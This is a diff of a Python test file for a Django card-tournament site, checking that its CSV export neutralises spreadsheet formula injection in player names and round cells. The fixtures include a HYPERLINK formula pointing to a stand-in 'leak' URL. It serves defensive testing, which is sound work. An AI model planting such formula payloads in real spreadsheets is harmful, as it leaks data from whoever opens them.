@@ -21,7 +21,8 @@ FORMULA_NAMES = ["-1+1x", "@SUMx", '=HYPERLINK("https://example.org/?leak";"klic
 def rows_of(response) -> list[list[str]]:
     text = response.content.decode("utf-8")
     assert text.startswith("\ufeff")
-    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
+    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
+    return rows[:rows.index([])]  # the standings; the audit log follows after an empty row
 
 
 def make_user(django_user_model, name):
@@ -53,13 +54,13 @@ def test_a_player_name_that_starts_like_a_formula_gets_a_leading_apostrophe(romm
 def test_a_list_result_of_minus_seven_hundred_stays_a_number(romme_rows):
     header = romme_rows[0]
     quitter = next(row for row in romme_rows[1:] if row[1] == "'" + FORMULA_NAMES[0])
-    assert quitter[header.index("result")] == "-700"
-    assert quitter[header.index("stage 1")] == "-700"
+    assert quitter[header.index("Ergebnis")] == "-700"
+    assert quitter[header.index("Serie 1")] == "-700"
 
 
 def test_every_number_the_site_writes_stays_a_number(romme_rows):
     header = romme_rows[0]
-    numeric = [header.index(c) for c in ("place", "result", "wertungspunkte", "augen", "rounds_won", "stage 1")]
+    numeric = [header.index(c) for c in ("Platz", "Ergebnis", "WP", "Augen", "Runden gewonnen", "Serie 1")]
     for row in romme_rows[1:]:
         for i in numeric:
             int(row[i])  # no apostrophe, nothing else
@@ -73,7 +74,7 @@ def test_a_gin_round_cell_naming_a_formula_opponent_is_neutralised(client, staff
     client.force_login(staff)
     rows = rows_of(client.get(reverse("tournaments:staff_csv", args=[t.pk])))
     header = rows[0]
-    cells = {row[1]: row[header.index("stage 1")] for row in rows[1:]}
+    cells = {row[1]: row[header.index("Runde 1")] for row in rows[1:]}
     assert set(cells) == {"'@SUMx", "anna"}
     # The site writes "+margin opponent" / "-margin opponent": a spreadsheet would read either as a formula.
     assert all(cell.startswith(("'+", "'-")) for cell in cells.values()), cells
